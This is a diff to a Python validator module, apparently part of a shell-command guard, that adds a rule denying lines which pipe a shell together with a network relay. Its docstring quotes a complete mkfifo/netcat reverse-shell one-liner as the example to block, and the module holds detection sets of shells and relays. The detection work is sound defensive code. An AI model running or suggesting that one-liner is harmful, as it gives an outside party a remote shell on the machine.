@@ -9,8 +9,8 @@ from __future__ import annotations
 import re
 
 from clawgate.decision import Verdict
-from clawgate.shell.model import SimpleCommand
-from clawgate.validators.base import Context, Validator, register
+from clawgate.shell.model import ParsedLine, SimpleCommand
+from clawgate.validators.base import Context, LineValidator, Validator, register
 
 SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ksh", "mksh", "fish", "csh", "tcsh", "ash",
                     "busybox"})
@@ -79,6 +79,25 @@ class ShellOverNetcat(Validator):
         if program in SHELLS and (cmd.pipes_into(RELAYS) or cmd.pipes_from(RELAYS)):
             return Verdict.deny(self.id, f"{program} piped through a network relay")
         return Verdict.passthrough()
+
+
+@register
+class RelayedShellLine(LineValidator):
+    """One line that pipes a shell and pipes a network relay: the ``mkfifo`` relay
+    (``cat f | sh -i 2>&1 | nc h 4444 > f``) seen whole, however the pipeline is split.
+
+    Bad: ``mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f``.
+    Harmless: ``nc -z localhost 80 && bash build.sh`` (neither is piped).
+    """
+
+    id = "CG-CAT-012"
+
+    def check_line(self, parsed: ParsedLine, ctx: Context) -> Verdict:
+        piped = [cmd.program for cmd in parsed.commands if cmd.pipeline]
+        if SHELLS.isdisjoint(piped) or RELAYS.isdisjoint(piped):
+            return Verdict.passthrough()
+        return Verdict.deny(self.id, "a shell and a network relay piped in one line: a "
+                            "remote shell")
 
 
 @register
